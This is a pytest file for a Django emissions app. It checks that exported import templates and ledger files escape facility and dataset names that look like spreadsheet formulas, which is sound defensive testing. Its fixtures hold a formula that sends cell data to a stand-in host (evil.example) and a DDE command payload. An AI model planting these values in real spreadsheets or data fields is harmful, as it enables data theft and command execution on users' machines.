"""The import template: a name typed by staff is written as text, never as a formula."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from openpyxl import load_workbook

from emissions.facilities.models import Facility

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def importer_client(client, django_user_model, organisation, hebei_plant):
    user = django_user_model.objects.create_user("importer", password="importer-pass-123")
    user.user_permissions.add(Permission.objects.get(codename="add_activityrecord"))
    client.force_login(user)
    return client


@pytest.fixture
def formula_plant(db):
    return Facility.objects.create(
        code="ZZ-01",
        name_en="+cmd|' /C calc'!A0",
        name_zh=FORMULA,
        kind="factory",
        province="CN-HE",
        grid_region="CN-North",
        opened_on=dt.date(2010, 1, 1),
    )


def test_the_xlsx_template_writes_a_formula_like_chinese_name_as_text(
    importer_client, formula_plant
):
    response = importer_client.get(reverse("dashboard:import_template_xlsx"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Facilities"]
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    name_en, name_zh = rows["ZZ-01"][1], rows["ZZ-01"][2]
    assert name_zh.value == FORMULA
    assert name_zh.data_type == "s"  # a string cell: Excel shows it, never runs it
    assert name_en.data_type == "s"
    every_cell = [
        cell
        for ws in load_workbook(io.BytesIO(response.content))
        for row in ws.iter_rows()
        for cell in row
    ]
    assert not [cell.coordinate for cell in every_cell if cell.data_type == "f"]


def test_the_csv_template_escapes_a_formula_like_name(importer_client, formula_plant):
    response = importer_client.get(reverse("dashboard:import_template"))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert ["#   ZZ-01", "'+cmd|' /C calc'!A0"] in rows
    # No cell of the file starts like a formula.
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_the_csv_template_still_imports_as_it_is(importer_client, formula_plant):
    from emissions.activities import imports

    response = importer_client.get(reverse("dashboard:import_template"))
    check = imports.check_file("template.csv", response.content)
    assert check.errors == []
    assert check.record_count == 2


@pytest.fixture
def ledger_client(client, django_user_model):
    user = django_user_model.objects.create_user("reader", password="reader-pass-123")
    user.user_permissions.set(
        Permission.objects.filter(
            content_type__app_label__in=["activities", "facilities", "factors"],
            codename__startswith="view_",
        )
    )
    client.force_login(user)
    return client


def test_the_ledger_export_escapes_a_formula_like_dataset_name(
    ledger_client, make_record, hebei_plant
):
    from emissions.factors.models import FactorDataset

    record = make_record(hebei_plant, "grid_electricity", "10", "MWh")
    # A dataset added in the admin carries whatever name staff typed.
    FactorDataset.objects.filter(pk=record.factor.dataset_id).update(name=FORMULA)

    response = ledger_client.get(reverse("dashboard:ledger_export", args=["csv"]))
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))
    assert row[header.index("factor dataset")] == "'" + FORMULA

    response = ledger_client.get(reverse("dashboard:ledger_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    cell = sheet.cell(row=2, column=header.index("factor dataset") + 1)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
